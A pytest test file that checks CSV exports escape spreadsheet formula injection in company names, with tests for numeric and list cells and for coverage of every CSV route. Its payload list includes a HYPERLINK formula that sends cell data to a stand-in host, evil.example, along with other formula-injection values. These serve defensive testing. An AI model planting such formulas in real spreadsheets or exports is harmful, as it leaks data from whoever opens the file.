"""Every CSV the product writes is safe to open in a spreadsheet (issue 14, item 4): contract text such
as a company name `=HYPERLINK(...)` is written as text, numbers stay numbers."""
import csv
import io
from decimal import Decimal

import pytest

from tests.factories import make_annual_plan

PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Invoice")', "+1", "-cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_annual_plans_csv_writes_a_formula_company_as_text(client, db, login_as, payload):
    plan = make_annual_plan(db.session, "acme")
    plan.company = payload  # as stored, untrimmed: a row edited or loaded from another source
    db.session.commit()
    login_as("viewer")
    response = client.get("/annual-plans.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    [row] = _rows(response)
    assert row["company"] == "'" + payload


def test_annual_plans_csv_keeps_numbers_and_quotes_list_cells(client, db, login_as):
    make_annual_plan(db.session, "acme", company="Acme Corp", credit_discount_percent=Decimal("-5"),
                     organization_ids=["-org-1", "org-2"])
    login_as("viewer")
    [row] = _rows(client.get("/annual-plans.csv"))
    assert row["company"] == "Acme Corp"
    assert row["credit_discount_percent"] == "-5"
    assert row["organization_ids"] == "'-org-1 org-2"
    assert row["term_months"].isdigit()


def test_every_csv_route_is_covered_here(app):
    """A new CSV export must come with its payload test (here, or beside its feature: the revenue month's is in
    tests/revenue) and write through spreadsheet_row."""
    csv_routes = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert csv_routes == {"/annual-plans.csv", "/revenue/<month>.csv"}
